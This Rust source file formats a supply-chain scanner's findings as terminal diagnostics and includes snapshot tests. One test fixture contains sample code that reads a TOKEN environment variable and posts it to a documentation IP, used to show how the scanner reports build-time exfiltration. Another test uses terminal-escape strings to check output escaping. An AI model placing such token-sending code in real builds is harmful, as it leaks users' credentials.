//! The format for people: each finding as a codespan diagnostic, then what was not analysed,
//! what was left out, and the counts.
//!
//! Every string that can hold text of the scanned tree is escaped on its way in; the source
//! lines come escaped and cropped from [`super::excerpt`].

use std::io::{self, Write};

use codespan_reporting::diagnostic::{Diagnostic, Label};
use codespan_reporting::files::Error;
use codespan_reporting::term::termcolor::Buffer;
use codespan_reporting::term::{Config, emit_to_write_style};

use super::excerpt::{END_CONTEXT, Excerpts, START_CONTEXT};
use super::position::Sources;
use super::{Style, counts, escape, notes, severity, short};
use crate::files::Files;
use crate::finding::{self, Finding, Report, Story, Unanalysed};

/// The most entries of a list after the findings. The whole list is in the JSON.
const LISTED: usize = 20;

/// The most steps of a finding that are drawn. More tell a reader nothing; they are in the JSON.
const STEPS: usize = 30;

pub fn write(report: &Report, files: &Files, style: &Style, out: &mut dyn Write) -> io::Result<()> {
    let sources = Sources::new(files);
    let config = Config {
        start_context_lines: START_CONTEXT,
        end_context_lines: END_CONTEXT,
        ..Config::default()
    };
    let mut buffer = style.buffer();
    for story in finding::stories(&report.findings) {
        // Into a buffer first: what cannot be drawn is still said, and not cut off half-way.
        buffer.clear();
        match draw(&story, &sources, &config, &mut buffer) {
            Ok(()) if style.color => out.write_all(buffer.as_slice())?,
            Ok(()) => write_trimmed(buffer.as_slice(), out)?,
            Err(Error::Io(error)) => return Err(error),
            Err(_) => describe(&story, &sources, style, out)?,
        }
    }
    if !style.quiet {
        list_unanalysed(&report.unanalysed, &sources, out)?;
        list_left_out(&report.left_out, out)?;
    }
    counts::write(&report.summary, style, out)
}

/// Writes lines without the blanks at their ends, which the renderer leaves here and there and
/// which logs and recorded outputs of tests do not keep.
fn write_trimmed(text: &[u8], out: &mut dyn Write) -> io::Result<()> {
    for line in text.split_inclusive(|byte| *byte == b'\n') {
        out.write_all(line.trim_ascii_end())?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

/// Draws a finding with its source lines, and what else is found at its place as notes.
fn draw(
    story: &Story<'_>,
    sources: &Sources<'_>,
    config: &Config,
    buffer: &mut Buffer,
) -> Result<(), Error> {
    let finding = story.strongest;
    let steps = finding.labels.len().min(STEPS);
    let labels = || {
        let steps = finding.labels.iter().take(STEPS).chain(&finding.disclosure_label);
        std::iter::once(&finding.primary).chain(steps)
    };
    let places: Vec<_> = labels().map(|label| label.place).collect();
    let (excerpts, ranges) = Excerpts::new(sources, &places);
    let numbered = !order_is_visible(finding);
    let labels = labels().zip(ranges).enumerate().map(|(number, (label, (file, range)))| {
        let message = escape::line(&label.message);
        match number {
            0 => Label::primary(file, range).with_message(message),
            _ if numbered && number <= steps => {
                Label::secondary(file, range).with_message(format_args!("{number}. {message}"))
            }
            _ => Label::secondary(file, range).with_message(message),
        }
    });
    let diagnostic = Diagnostic::new(severity(finding))
        .with_code(escape::line(&finding.lint))
        .with_message(escape::line(&finding.message))
        .with_labels_iter(labels)
        .with_notes(notes::notes(story, STEPS));
    emit_to_write_style(buffer, config, &excerpts, &diagnostic)
}

/// Whether the steps can be read in their order without numbers. They are drawn in the order of
/// the source, so only when they lie in one file and follow each other there.
fn order_is_visible(finding: &Finding) -> bool {
    let file = finding.primary.place.file;
    finding.labels.len() < 2
        || finding.labels.iter().all(|label| label.place.file == file)
            && finding.labels.is_sorted_by_key(|label| label.place.span.start)
}

/// Says a finding without its source lines.
fn describe(
    story: &Story<'_>,
    sources: &Sources<'_>,
    style: &Style,
    out: &mut dyn Write,
) -> io::Result<()> {
    short::write_line(story.strongest, sources, style, out)?;
    for note in notes::notes(story, STEPS) {
        writeln!(out, "  = {}", note.replace('\n', "\n    "))?;
    }
    writeln!(out)
}

fn list_unanalysed(
    unanalysed: &[Unanalysed],
    sources: &Sources<'_>,
    out: &mut dyn Write,
) -> io::Result<()> {
    let entries = unanalysed.iter().map(|entry| {
        let mut place = escape::path(&entry.file);
        if let Some(part) = entry.place {
            let (start, _) = sources.positions(part);
            place += &format!(":{}:{}", start.line, start.column);
        }
        (place, escape::line(&entry.why))
    });
    list("not analysed", entries, out)
}

fn list_left_out(left_out: &[(String, String)], out: &mut dyn Write) -> io::Result<()> {
    let entries = left_out.iter().map(|(path, why)| (escape::path(path), escape::line(why)));
    list("left out", entries, out)
}

fn list(
    heading: &str,
    entries: impl ExactSizeIterator<Item = (String, String)>,
    out: &mut dyn Write,
) -> io::Result<()> {
    if entries.len() == 0 {
        return Ok(());
    }
    writeln!(out, "{heading}:")?;
    let more = entries.len().saturating_sub(LISTED);
    for (path, why) in entries.take(LISTED) {
        writeln!(out, "  {path}: {why}")?;
    }
    if more > 0 {
        writeln!(out, "  and {} more: use --format json for all", counts::number(more))?;
    }
    writeln!(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::Summary;
    use crate::report::testing::{
        drawn, find, finding, label, place, rendered, report, snippet, tree,
    };
    use crate::report::{Format, write};
    use crate::vocab::Confidence;
    use crate::vocab::Level;

    #[test]
    fn steps_in_another_file() {
        let main = "mod net;\n\nfn main() {\n    net::send(net::token());\n}\n";
        let net = "pub fn token() -> String {\n    std::env::var(\"TOKEN\").unwrap()\n}\n\n\npub fn send(body: String) {\n    post(\"http://203.0.113.9\", body);\n}\n";
        let (files, [a, b]) = tree([("src/main.rs", main), ("src/net.rs", net)]);
        let mut finding = finding(find(a, main, "net::send(net::token())"));
        finding.labels = vec![
            label(find(b, net, "std::env::var(\"TOKEN\")"), "`TOKEN` is read here"),
            label(find(b, net, "post(\"http://203.0.113.9\", body)"), "and is sent here"),
        ];
        finding.confidence = Confidence::Medium;
        finding.notes = vec!["a token lets its holder act as the user".to_owned()];
        finding.help = vec![
            "if this is meant, say so in `overt.toml`:\n\n[[disclosure]]\nid       = \"send\"\ncollects = [\n\t\"credential\",\n]\n"
                .to_owned(),
            "otherwise remove the call".to_owned(),
        ];
        insta::assert_snapshot!(drawn(&report(vec![finding]), &files), @r#"
        error[build-network]: the build connects to 203.0.113.9
          ┌─ src/main.rs:4:5
          │
        4 │     net::send(net::token());
          │     ^^^^^^^^^^^^^^^^^^^^^^^ connects here
          │
          ┌─ src/net.rs:2:5
          │
        2 │     std::env::var("TOKEN").unwrap()
          │     ---------------------- 1. `TOKEN` is read here
          ·
        7 │     post("http://203.0.113.9", body);
          │     -------------------------------- 2. and is sent here
          │
          = when: at build (build-script `build-script-build` of demo 1.2.3)
          = confidence: medium: a part of it is inferred from the code nearby
          = why: a token lets its holder act as the user
          = help: if this is meant, say so in `overt.toml`:

                  [[disclosure]]
                  id       = "send"
                  collects = [
                      "credential",
                  ]
          = help: otherwise remove the call
          = see: cargo overt explain build-network

        1 error, 0 warnings · 0 disclosed · 0 suppressed · 0 not analysed · 0 left out · 0 files in 0 packages, 0 lines, 0 facts, no calls · 0.00 s
        "#);
    }

    #[test]
    fn steps_in_their_order_have_no_numbers() {
        let text = "a(); b(); c();";
        let (files, [file]) = tree([("a.rs", text)]);
        let mut finding = finding(find(file, text, "c()"));
        finding.level = Level::Warn;
        finding.labels =
            vec![label(find(file, text, "a()"), "first"), label(find(file, text, "b()"), "then")];
        insta::assert_snapshot!(snippet(&drawn(&report(vec![finding]), &files)), @r#"
          ┌─ a.rs:1:11
          │
        1 │ a(); b(); c();
          │ ---  ---  ^^^ connects here
          │ │    │
          │ │    then
          │ first
          │
        "#);
    }

    #[test]
    fn no_string_reaches_the_terminal_raw() {
        let bad = "\x1b]0;x\x07\u{202e}\u{200b}\r\u{9b}";
        let text = format!("// {bad}\n");
        let path = format!("src/{bad}.rs");
        let (files, [file]) = tree([(path.as_str(), text.as_str())]);
        let mut finding = finding(place(file, 0..text.len()));
        finding.lint = bad.into();
        finding.message = bad.to_owned();
        finding.package = Some(bad.into());
        finding.target_name = bad.into();
        finding.trigger = bad.to_owned();
        finding.primary.message = bad.to_owned();
        finding.labels = vec![label(place(file, 3..9), bad)];
        finding.notes = vec![bad.to_owned()];
        finding.help = vec![format!("{bad}\n{bad}")];
        let mut report = report(vec![finding]);
        report.unanalysed =
            vec![Unanalysed { file: bad.to_owned(), place: None, why: bad.to_owned() }];
        report.left_out = vec![(bad.to_owned(), bad.to_owned())];
        for format in [Format::Human, Format::Short, Format::Json] {
            let out = rendered(&report, &files, format);
            assert!(out.chars().all(|c| c == '\n' || !escape::is_hidden(c)), "{out:?}");
        }
    }

    #[test]
    fn steps_beyond_a_page_are_counted() {
        let (files, [file]) = tree([("a.rs", "a();")]);
        let mut finding = finding(place(file, 0..3));
        finding.labels = vec![label(place(file, 0..1), "step"); STEPS + 2];
        let drawn = drawn(&report(vec![finding]), &files);
        assert!(drawn.contains("= steps: 2 more steps not drawn: use --format json for all"));
        assert_eq!(drawn.matches("step\n").count(), STEPS);
    }

    #[test]
    fn an_empty_report_is_one_line() {
        let (files, []) = tree([]);
        let drawn = drawn(&Report::default(), &files);
        assert!(drawn.starts_with("no findings · ") && drawn.lines().count() == 1);
    }

    #[test]
    fn lists_follow_the_findings() {
        let (files, [file]) = tree([("a.rs", "fn a() {}\n")]);
        let unanalysed = |number: usize| Unanalysed {
            file: format!("gen/{number}.rs"),
            place: None,
            why: "nested more than 256 deep".to_owned(),
        };
        let mut report = Report {
            unanalysed: (1..=22).map(unanalysed).collect(),
            left_out: vec![("fuzz".to_owned(), "generated inputs".to_owned())],
            summary: Summary { unanalysed: 22, left_out: 1, files: 23, ..Summary::default() },
            ..Report::default()
        };
        report.unanalysed[0].place = Some(place(file, 3..4));
        insta::assert_snapshot!(drawn(&report, &files), @r#"
        not analysed:
          gen/1.rs:1:4: nested more than 256 deep
          gen/2.rs: nested more than 256 deep
          gen/3.rs: nested more than 256 deep
          gen/4.rs: nested more than 256 deep
          gen/5.rs: nested more than 256 deep
          gen/6.rs: nested more than 256 deep
          gen/7.rs: nested more than 256 deep
          gen/8.rs: nested more than 256 deep
          gen/9.rs: nested more than 256 deep
          gen/10.rs: nested more than 256 deep
          gen/11.rs: nested more than 256 deep
          gen/12.rs: nested more than 256 deep
          gen/13.rs: nested more than 256 deep
          gen/14.rs: nested more than 256 deep
          gen/15.rs: nested more than 256 deep
          gen/16.rs: nested more than 256 deep
          gen/17.rs: nested more than 256 deep
          gen/18.rs: nested more than 256 deep
          gen/19.rs: nested more than 256 deep
          gen/20.rs: nested more than 256 deep
          and 2 more: use --format json for all

        left out:
          fuzz: generated inputs

        no findings · 0 disclosed · 0 suppressed · 22 not analysed · 1 left out · 23 files in 0 packages, 0 lines, 0 facts, no calls · 0.00 s
        "#);

        let mut quiet = Vec::new();
        let style = Style { color: false, quiet: true };
        write(&report, &files, Format::Human, &style, &mut quiet).unwrap();
        assert_eq!(String::from_utf8(quiet).unwrap().lines().count(), 1);
    }

    #[test]
    fn colour_is_ansi_and_the_text_the_same() {
        let (files, [file]) = tree([("a.rs", "connect();")]);
        let report = report(vec![finding(place(file, 0..9))]);
        let mut out = Vec::new();
        let style = Style { color: true, quiet: false };
        write(&report, &files, Format::Human, &style, &mut out).unwrap();
        let colored = String::from_utf8(out).unwrap();
        let mut plain = String::new();
        let mut rest = colored.as_str();
        while let Some((text, code)) = rest.split_once('\x1b') {
            plain += text;
            rest = code.split_once('m').unwrap().1;
        }
        plain += rest;
        let plain: Vec<&str> = plain.lines().map(str::trim_end).collect();
        assert_eq!(plain, drawn(&report, &files).lines().collect::<Vec<_>>());
        assert!(colored.contains("\x1b[31m"));
    }
}
